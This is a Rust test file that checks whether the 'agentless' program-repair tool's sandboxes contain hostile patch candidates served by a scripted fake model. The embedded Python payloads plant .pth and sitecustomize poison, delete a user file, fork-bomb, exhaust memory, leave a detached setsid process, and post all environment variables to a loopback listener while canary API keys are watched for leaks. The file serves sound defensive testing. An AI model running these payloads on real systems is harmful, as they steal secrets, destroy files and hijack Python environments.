//! Hostile candidates through `agentless run`, in each sandbox: each one attacks the sandbox from the code its tests
//! import (plants a `.pth`, writes home and temp, writes outside the checkout, deletes the user's files, reads and
//! sends the environment, leaves a `setsid` process, prints 100 MB, exhausts memory, fork-bombs, loops forever),
//! and each is followed by an observer: a no-op candidate that reports "Issue resolved" when it finds any trace of
//! an attack, and so must keep failing the reproduction test. The real fix comes last and must be chosen; canary keys
//! in agentless's environment must appear in no file of the run directory.

use std::path::{Path, PathBuf};
use std::process::Output;

use std::io::Read as _;
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use agentless_tests::{
    REQUIRE_CONTAINMENT, Script, ScriptedModelServer, docker_available, skip_loudly, workspace_root,
};

use crate::{agentless, example_repo, stderr, stdout};

const CANARIES: [(&str, &str); 3] = [
    ("OPENAI_API_KEY", "sk-canary-5f1d0c3e9a"),
    ("GITHUB_TOKEN", "ghp_canary7b2e44d1"),
    ("MY_SERVICE_TOKEN", "svc-canary-0a9e61"),
];
const TEST_TIMEOUT_SECONDS: &str = "15";

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Sandbox {
    /// Local, under bubblewrap.
    Bubblewrap,
    /// Local without containment: only what it promises (pristine copy, virtualenv, home and temp; environment).
    Uncontained,
    Docker,
}

/// One attack: Python run when the candidate's code is imported, and the sandboxes that must withstand it.
struct Attack {
    name: &'static str,
    code: String,
    contained_only: bool,
}

fn attacks(user_repo: &Path, outside: &Path, listener_url: &str) -> Vec<Attack> {
    let user_file = user_repo.join("tinyinvoice/tax.py");
    let poison_line = "import os, sys; sys.path.insert(0, os.getcwd()); import tinyinvoice.money as m; \
                       m.Money.rounded = (lambda self: m.Money(self.amount.quantize(m.CENT, rounding='ROUND_HALF_UP'), \
                       self.currency))";
    let mut attacks = vec![
        Attack {
            name: "plants a .pth and sitecustomize in the environment",
            code: format!(
                "import os, site, sys\n\
                 for d in [p for p in sys.path if p.endswith('site-packages')] + [site.getusersitepackages()]:\n\
                 \x20   try:\n\
                 \x20       os.makedirs(d, exist_ok=True)\n\
                 \x20       open(os.path.join(d, 'zz_poison.pth'), 'w').write({poison_line:?} + '\\n')\n\
                 \x20       open(os.path.join(d, 'sitecustomize.py'), 'w').write({poison_line:?} + '\\n')\n\
                 \x20   except OSError:\n\
                 \x20       pass\n"
            ),
            contained_only: false,
        },
        Attack {
            name: "writes to $HOME and $TMPDIR",
            code: "import os, tempfile\n\
                   for d in [os.path.expanduser('~'), tempfile.gettempdir()]:\n\
                   \x20   try:\n\
                   \x20       open(os.path.join(d, 'poison'), 'w').write('x')\n\
                   \x20   except OSError:\n\
                   \x20       pass\n"
                .to_owned(),
            contained_only: false,
        },
        Attack {
            name: "writes to /tmp and outside the checkout, deletes the user's repository files",
            code: format!(
                "import os\n\
                 for p in ['/tmp/poison', {outside:?}]:\n\
                 \x20   try:\n\
                 \x20       open(p, 'w').write('x')\n\
                 \x20   except OSError:\n\
                 \x20       pass\n\
                 try:\n\
                 \x20   os.remove({user_file:?})\n\
                 except OSError:\n\
                 \x20   pass\n",
                outside = outside.join("pwned").to_string_lossy(),
                user_file = user_file.to_string_lossy(),
            ),
            contained_only: true,
        },
        Attack {
            name: "prints every environment variable and sends it to the host's loopback",
            code: format!(
                "import json, os, urllib.request\n\
                 print('ENVIRONMENT', dict(os.environ))\n\
                 try:\n\
                 \x20   request = urllib.request.Request({listener_url:?}, data=json.dumps(dict(os.environ)).encode())\n\
                 \x20   urllib.request.urlopen(request, timeout=3)\n\
                 except Exception as error:\n\
                 \x20   print('exfiltration failed:', error)\n"
            ),
            contained_only: false,
        },
        Attack {
            name: "leaves a setsid process that keeps writing into the checkout",
            code: "import os, subprocess\n\
                   subprocess.Popen(['sh', '-c', 'while :; do touch \"$0/stray_marker\"; sleep 0.1; done', os.getcwd()], \
                   start_new_session=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)\n"
                .to_owned(),
            contained_only: false,
        },
        Attack {
            name: "prints 100 MB",
            code: "import sys\nchunk = 'x' * (1 << 20) + '\\n'\nfor _ in range(100):\n    sys.stdout.write(chunk)\n"
                .to_owned(),
            contained_only: false,
        },
        Attack {
            name: "exhausts memory",
            code: "hog = []\nfor _ in range(48):\n    hog.append(b'x' * (256 << 20))\n".to_owned(),
            contained_only: true,
        },
        Attack {
            name: "fork-bombs",
            code: "import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass\n".to_owned(),
            contained_only: true,
        },
        Attack { name: "loops forever", code: "while True:\n    pass\n".to_owned(), contained_only: false },
    ];
    // Without containment a fork bomb or a memory hog would hit the host itself; without a control group (not root)
    // nothing limits them, so those two run only where the sandbox has limits.
    if !running_as_root() {
        attacks.retain(|attack| !attack.name.contains("fork") && !attack.name.contains("memory"));
        skip_loudly("the fork-bomb and memory attacks", "control groups need root", REQUIRE_CONTAINMENT);
    }
    attacks
}

fn running_as_root() -> bool {
    std::process::Command::new("id")
        .arg("-u")
        .output()
        .is_ok_and(|output| String::from_utf8_lossy(&output.stdout).trim() == "0")
}

/// A no-op candidate that looks for every trace an attack could leave and, finding one, reports the issue resolved
/// (so a trace shows up as a passing reproduction test).
fn observer(serial: usize, outside: &Path) -> String {
    format!(
        "import glob, os, sys, tempfile\n\
         traces = [p for p in [os.path.expanduser('~/poison'), os.path.join(tempfile.gettempdir(), 'poison'), \
         '/tmp/poison', {outside:?}, 'stray_marker'] if os.path.exists(p)]\n\
         for d in [p for p in sys.path if p.endswith('site-packages')]:\n\
         \x20   traces += glob.glob(os.path.join(d, 'zz_poison*')) + glob.glob(os.path.join(d, 'sitecustomize.py'))\n\
         traces += [name for name in os.environ if name in ('OPENAI_API_KEY', 'GITHUB_TOKEN', 'MY_SERVICE_TOKEN')]\n\
         observer_serial = {serial}\n\
         if traces:\n\
         \x20   print('Issue resolved', traces)\n\
         \x20   sys.stdout.flush()\n\
         \x20   os._exit(0)\n",
        outside = outside.join("pwned").to_string_lossy(),
    )
}

/// A SEARCH/REPLACE answer that runs `code` in the class body of `Money` (so on every import of the module).
fn candidate(code: &str) -> String {
    format!(
        "```python\n### tinyinvoice/money.py\n<<<<<<< SEARCH\n    def rounded(self):\n=======\n    exec({code:?}, {{}})\n\n    \
         def rounded(self):\n>>>>>>> REPLACE\n```"
    )
}

const FIX: &str = "```python\n### tinyinvoice/money.py\n<<<<<<< SEARCH\n        return Money(self.amount.quantize(CENT), \
                   self.currency)\n=======\n        return Money(self.amount.quantize(CENT, rounding=\"ROUND_HALF_UP\"), \
                   self.currency)\n>>>>>>> REPLACE\n```";

/// The example's script with the repair answers replaced: attack, observer, attack, observer, …, then the fix.
fn script(answers: &[String]) -> Script {
    let mut script = Script::load(&workspace_root().join("examples/tinyinvoice.script.json")).unwrap();
    let (greedy, rest) = answers.split_first().unwrap();
    script.stages.remove("repair");
    let rest: Vec<&str> = rest.iter().map(String::as_str).collect();
    script.answer("repair", &[greedy.as_str()]).answer("repair", &rest)
}

fn copy_tree(from: &Path, to: &Path) {
    for entry in walk(from) {
        let target = to.join(entry.strip_prefix(from).unwrap());
        fs_err::create_dir_all(target.parent().unwrap()).unwrap();
        fs_err::copy(&entry, &target).unwrap();
    }
}

fn walk(root: &Path) -> Vec<PathBuf> {
    let mut files = Vec::new();
    let mut pending = vec![root.to_path_buf()];
    while let Some(folder) = pending.pop() {
        for entry in fs_err::read_dir(&folder).unwrap().flatten() {
            let path = entry.path();
            if entry.file_type().unwrap().is_dir() {
                pending.push(path);
            } else {
                files.push(path);
            }
        }
    }
    files
}

async fn run_hostile(sandbox: Sandbox) {
    let home = tempfile::tempdir().unwrap();
    let user_repo = home.path().join("project");
    copy_tree(&example_repo(), &user_repo);
    let outside = tempfile::tempdir().unwrap();
    let out = home.path().join("run");

    let listener = Listener::start();
    let attacks: Vec<Attack> = attacks(&user_repo, outside.path(), &listener.url)
        .into_iter()
        .filter(|attack| sandbox != Sandbox::Uncontained || !attack.contained_only)
        .collect();
    let mut answers = Vec::new();
    for (serial, attack) in attacks.iter().enumerate() {
        answers.push(candidate(&attack.code));
        answers.push(candidate(&observer(serial, outside.path())));
    }
    // A runaway answer (16× the answer cap): it must not bloat the run's artifacts.
    answers.push("x".repeat(4 << 20));
    answers.push(FIX.to_owned());
    let server = ScriptedModelServer::start(script(&answers)).await;

    let repo = user_repo.to_string_lossy().into_owned();
    let issue = workspace_root().join("examples/tinyinvoice.issue.md").to_string_lossy().into_owned();
    let out_text = out.to_string_lossy().into_owned();
    let base_url = server.base_url();
    let samples = answers.len().to_string();
    let mut args: Vec<String> = [
        "run",
        "--repo",
        &repo,
        "--issue",
        &issue,
        "--out",
        &out_text,
        "--model",
        "openai:gpt-4o-2024-05-13",
        "--base-url",
        &base_url,
        "--edit-samples",
        "1",
        "--samples",
        &samples,
        "--reproduction-tests",
        "1",
        "--workers",
        "1",
        "--test-timeout",
        TEST_TIMEOUT_SECONDS,
        "--no-cache",
    ]
    .map(str::to_owned)
    .to_vec();
    match sandbox {
        Sandbox::Bubblewrap => args.extend(["--containment", "bubblewrap"].map(str::to_owned)),
        Sandbox::Uncontained => args.extend(["--containment", "none"].map(str::to_owned)),
        Sandbox::Docker => args.extend(["--sandbox", "docker"].map(str::to_owned)),
    }
    let home_path = home.path().to_path_buf();
    let output: Output = tokio::task::spawn_blocking(move || {
        let args: Vec<&str> = args.iter().map(String::as_str).collect();
        agentless(&home_path, &args, &CANARIES)
    })
    .await
    .unwrap();
    assert_eq!(output.status.code(), Some(0), "{}", stderr(&output));

    // The fix is chosen, and no observer passed the reproduction test: no attack left a trace.
    assert!(stdout(&output).contains("rounding=\"ROUND_HALF_UP\""), "{}", stdout(&output));
    let report: serde_json::Value =
        serde_json::from_str(&fs_err::read_to_string(out.join("report.json")).unwrap()).unwrap();
    let rows = report["candidates"].as_array().unwrap();
    assert_eq!(rows.len(), answers.len());
    for (index, attack) in attacks.iter().enumerate() {
        let attack_row = &rows[2 * index];
        let observer_row = &rows[2 * index + 1];
        assert_eq!(attack_row["status"], "ok", "{}: {attack_row}", attack.name);
        assert_eq!(observer_row["applied"], true, "after `{}`: {observer_row}", attack.name);
        assert_eq!(
            observer_row["reproduction"],
            "reproduced",
            "after `{}` the no-op candidate saw a trace: {observer_row}\n{}",
            attack.name,
            fs_err::read_to_string(out.join("report.md")).unwrap()
        );
        assert_eq!(observer_row["regression_failures"], 0, "after `{}`: {observer_row}", attack.name);
        assert!(observer_row["sandbox_error"].is_null(), "after `{}`: {observer_row}", attack.name);
    }
    assert_eq!(rows.last().unwrap()["chosen"], true, "{}", stderr(&output));

    // No canary in any file of the run directory (test logs included).
    for file in walk(&out) {
        let text = String::from_utf8_lossy(&fs_err::read(&file).unwrap()).into_owned();
        for (name, value) in CANARIES {
            assert!(!text.contains(value), "{name} leaked into {}", file.display());
        }
    }
    // The 100 MB of output and the 50 MB answer were capped: the whole run directory stays small.
    let run_bytes: u64 = walk(&out).iter().map(|file| fs_err::metadata(file).unwrap().len()).sum();
    assert!(run_bytes < 16 << 20, "the run directory holds {run_bytes} bytes");
    // The environment the attack printed is there, without the keys.
    let logs: String = walk(&out.join("logs")).iter().map(|file| fs_err::read_to_string(file).unwrap()).collect();
    assert!(logs.contains("ENVIRONMENT"), "the environment attack did not run");
    // The user's repository is whole.
    assert!(user_repo.join("tinyinvoice/tax.py").is_file(), "a test deleted a file of the user's repository");
    // What reached the model server: with containment nothing but model requests; without, the variables sent
    // carry no key.
    let received = listener.received();
    match sandbox {
        Sandbox::Bubblewrap | Sandbox::Docker => {
            assert!(received.is_empty(), "a test reached the host's loopback: {received:?}");
            assert!(!outside.path().join("pwned").exists(), "a test wrote outside the checkout");
        }
        Sandbox::Uncontained => {
            assert!(!received.is_empty(), "without containment the test reaches the host (the suite checks that)");
            for (name, value) in CANARIES {
                assert!(received.iter().all(|request| !request.contains(value)), "{name} was sent");
            }
        }
    }
    let isolation = &report["isolation"];
    match sandbox {
        Sandbox::Bubblewrap => assert_eq!(isolation["mechanism"], "bubblewrap"),
        Sandbox::Uncontained => assert_eq!(isolation["mechanism"], "none"),
        Sandbox::Docker => assert_eq!(isolation["mechanism"], "docker"),
    }
    assert!(stderr(&output).contains("sandbox isolation ("), "{}", stderr(&output));
}

/// A TCP listener on the host's loopback that keeps what every connection sends (bounded in count, size and time).
struct Listener {
    url: String,
    received: Arc<Mutex<Vec<String>>>,
}

impl Listener {
    fn start() -> Self {
        let socket = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
        let url = format!("http://{}/collect", socket.local_addr().unwrap());
        socket.set_nonblocking(true).unwrap();
        let received = Arc::new(Mutex::new(Vec::new()));
        let sink = Arc::clone(&received);
        std::thread::spawn(move || {
            let until = Instant::now() + Duration::from_secs(900);
            let mut connections = 0;
            while Instant::now() < until && connections < 100 {
                match socket.accept() {
                    Ok((mut stream, _)) => {
                        connections += 1;
                        let _ = stream.set_nonblocking(false);
                        let _ = stream.set_read_timeout(Some(Duration::from_secs(2)));
                        let mut buffer = vec![0; 1 << 16];
                        let count = stream.read(&mut buffer).unwrap_or(0);
                        sink.lock().unwrap().push(String::from_utf8_lossy(&buffer[..count]).into_owned());
                        let _ = std::io::Write::write_all(&mut stream, b"HTTP/1.0 200 OK\r\n\r\n");
                    }
                    Err(_) => std::thread::sleep(Duration::from_millis(20)),
                }
            }
        });
        Self { url, received }
    }

    fn received(&self) -> Vec<String> {
        self.received.lock().unwrap().clone()
    }
}

fn bubblewrap_available() -> bool {
    let works = std::process::Command::new("bwrap")
        .args(["--unshare-all", "--ro-bind", "/", "/", "--proc", "/proc", "--dev", "/dev", "true"])
        .output()
        .is_ok_and(|output| output.status.success());
    if !works {
        skip_loudly("the bubblewrap hostile suite", "bwrap is missing or cannot run here", REQUIRE_CONTAINMENT);
    }
    works
}

#[tokio::test(flavor = "multi_thread")]
async fn hostile_candidates_cannot_change_the_verdict_under_bubblewrap() {
    if bubblewrap_available() {
        run_hostile(Sandbox::Bubblewrap).await;
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn hostile_candidates_cannot_change_the_verdict_without_containment() {
    run_hostile(Sandbox::Uncontained).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn hostile_candidates_cannot_change_the_verdict_in_docker() {
    if !docker_available("the Docker hostile suite") {
        return;
    }
    run_hostile(Sandbox::Docker).await;
}
